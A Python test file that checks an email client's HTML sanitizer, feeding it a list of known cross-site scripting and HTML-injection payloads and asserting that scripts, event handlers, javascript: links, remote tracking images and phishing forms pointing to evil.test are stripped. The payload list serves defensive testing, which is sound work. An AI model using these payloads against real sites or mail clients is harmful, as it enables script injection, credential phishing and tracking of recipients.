"""Mail HTML on the screen is inert."""

from __future__ import annotations

import re
from base64 import b64encode
from email.message import EmailMessage
from html.parser import HTMLParser

import pytest

from samehand.channels.mail.channel import formatted
from samehand.channels.mail.reading import arrival
from samehand.channels.mail.reading.tree import grow
from samehand.channels.mail.showing import safe_html

# Shapes of attack that are known by everybody who cleans HTML; written anew.
ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<a href='javascript:alert(1)'>x</a><a href=' jAvAsCrIpT&colon;x'>y</a><a href='java\nscript:alert(1)'>z</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a><a href='vbscript:x'>y</a><a href='cid:x'>z</a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template><xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<select><iframe></select><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<base href='https://evil.test/'><meta http-equiv=refresh content='0;url=//evil.test'><link rel=stylesheet href=x>",
    "<form action=https://evil.test><input type=password name=p><button formaction=x>ok</button></form>",
    "<style>@import 'https://evil.test/x.css'; body { background: url(https://evil.test/y) }</style>",
    "<p style=\"background-image:url('https://evil.test/p');color:red\">x</p>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
    '<p style="color:expression(alert(1));width:\\75rl(https://evil.test/z)">x</p>',
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><img src='data:text/html,x'><img srcset='https://evil.test/1 2x'>",
    "<table background='https://evil.test/b'><tr><td background='https://evil.test/c'>x</td></tr></table>",
    "<video poster=https://evil.test/v src=x></video><audio src=https://evil.test/a></audio><input type=image src=https://evil.test/i>",
    "</body></html><script>alert(1)</script><!--><img src=x onerror=alert(1)>-->",
    "<a href=https://ok.test onclick=alert(1) style='position:absolute' target=_top id=x name=y>z</a>",
]


class _Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def body_of(html: str) -> str:
    return html.partition("<body>")[2].rpartition("</body>")[0]


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("images", [False, True])
def test_nothing_runs_asks_or_calls_home(attack: str, images: bool) -> None:
    body = body_of(safe_html(attack, images=images, cid_url=lambda _cid: "").html)

    for tag, attributes in _Seen(body).tags:
        assert tag not in {
            "script",
            "style",
            "svg",
            "math",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "base",
            "meta",
        }
        assert tag not in {"link", "button", "textarea", "select", "video", "audio", "template", "noscript", "xmp"}
        assert not [name for name in attributes if name.startswith("on") or name in {"srcset", "background", "action"}]
        assert re.match(r"(https?:|mailto:|tel:|$)", attributes.get("href", ""))
        assert not re.search(r"url|expression|position|z-index|\\", attributes.get("style", ""))
        assert "evil.test" not in attributes.get("src", "")


def test_cleaning_twice_changes_nothing() -> None:
    for attack in ATTACKS:
        once = body_of(safe_html(attack, images=True, cid_url=lambda _cid: "").html)
        twice = body_of(safe_html(once, images=True, cid_url=lambda _cid: "").html)
        assert _Seen(twice).tags == _Seen(once).tags


def test_remote_pictures_wait_until_they_are_asked_for() -> None:
    html = '<img src="https://x.test/a.png" alt="A"><img src="//x.test/b.png"><img src="http://x.test/c.gif">'

    hidden = safe_html(html, images=False, cid_url=lambda _cid: "")
    shown = safe_html(html, images=True, cid_url=lambda _cid: "")

    assert hidden.blocked_images == 3
    assert "x.test" not in hidden.html
    assert 'alt="A"' in hidden.html
    assert shown.blocked_images == 0
    assert 'src="https://x.test/a.png"' in shown.html
    assert 'src="https://x.test/b.png"' in shown.html


def test_pictures_inside_the_mail_come_from_our_own_address() -> None:
    html = '<img src="cid:shot@x"><img src="cid:gone@x"><img src="data:image/png;base64,iVBORw0KGgo=">'

    shown = safe_html(html, images=False, cid_url=lambda cid: {"shot@x": "/mail/7/parts/2"}.get(cid, ""))

    assert '<img src="/mail/7/parts/2">' in shown.html
    assert "cid:" not in shown.html
    assert "data:image/png;base64,iVBORw0KGgo=" in shown.html
    assert shown.blocked_images == 0


def test_links_open_elsewhere_and_tell_nothing() -> None:
    html = safe_html(
        '<a href="https://x.test/?a=1&b=2" target="_top">x</a>', images=False, cid_url=lambda _cid: ""
    ).html

    assert 'href="https://x.test/?a=1&amp;b=2"' in html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer"' in html
    assert "_top" not in html


def test_the_look_of_a_letter_stays() -> None:
    html = '<table bgcolor="#eee"><tr><td style="color:red;padding:4px" colspan="2"><b>Faktura</b></td></tr></table>'

    body = body_of(safe_html(html, images=False, cid_url=lambda _cid: "").html)
    assert 'bgcolor="#eee"' in body
    assert "color:red" in body
    assert 'colspan="2"' in body


PIXELS = b"\x89PNG\r\n\x1a\n" + b"\0" * 1_500_000


def a_mail_of_pictures(shown: list[str], pictures: int) -> bytes:
    html = "".join(f'<img src="cid:{name}@x">' for name in shown)
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "zofia@poczta.example", "Zdjęcia"
    mail.set_content(html, subtype="html")
    for number in range(pictures):
        mail.add_related(PIXELS, "image", "png", cid=f"<{number}@x>")
    return mail.as_bytes()


@pytest.mark.parametrize(
    ("shown", "wanted"),
    [(["0"] * 150, ["0"]), ([str(number) for number in range(8)], [str(number) for number in range(8)])],
    ids=["one picture again and again", "many pictures"],
)
def test_pictures_inside_a_mail_do_not_pile_up(shown: list[str], wanted: list[str]) -> None:
    raw, asked = a_mail_of_pictures(shown, 10), list[bytes]()

    def address(content: bytes) -> str:
        asked.append(content)
        return f"data:image/png;base64,{b64encode(content).decode()}"

    page = formatted(raw, images=False, address=address, elsewhere=str).html

    assert len(asked) == len(wanted)
    assert page.count("data:image/png") == 4
    assert len(page) < 10_100_000


def test_a_mail_is_parsed_once_however_many_pictures_it_has(monkeypatch: pytest.MonkeyPatch) -> None:
    grown: list[bytes] = []
    monkeypatch.setattr(arrival, "grow", lambda raw, defects: grown.append(raw) or grow(raw, defects))

    formatted(
        a_mail_of_pictures(["0", "1", "0", "gone"], 3), images=False, address=lambda _content: "data:,", elsewhere=str
    )

    assert len(grown) == 1
